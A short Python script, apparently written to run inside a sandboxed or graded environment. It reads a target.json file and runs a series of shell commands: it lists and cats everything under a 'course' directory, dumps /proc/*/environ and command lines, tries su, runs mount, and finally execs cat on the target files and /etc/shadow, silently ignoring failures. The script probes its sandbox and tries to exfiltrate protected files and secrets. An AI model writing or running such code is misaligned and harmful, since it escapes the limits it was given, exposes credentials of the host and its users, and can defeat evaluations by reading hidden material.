"""Replaces its process by programs of the system that read, search and list: cat last, others as children."""

import json
import os
import subprocess
from pathlib import Path

# reads "The code ended the process (exit status 1)."

target = json.loads(Path("target.json").read_text())
files = [*target["files"].values(), "/etc/shadow"]
for command in (
    ["ls", "-R", target["course"]],
    ["sh", "-c", f"cat {target['course']}/*/* {target['course']}/*/*/*"],
    ["sh", "-c", "cat /proc/*/environ /proc/*/cmdline"],
    ["cp", "-r", target["course"], "."],
    ["python3", "-c", f"print(open({files[0]!r}).read())"],
    ["su", "-c", f"cat {files[0]}"],
    ["mount"],
):
    try:
        print(subprocess.run(command, capture_output=True, timeout=1).stdout)
    except (OSError, subprocess.SubprocessError):
        continue
os.execvp("cat", ["cat", *files])
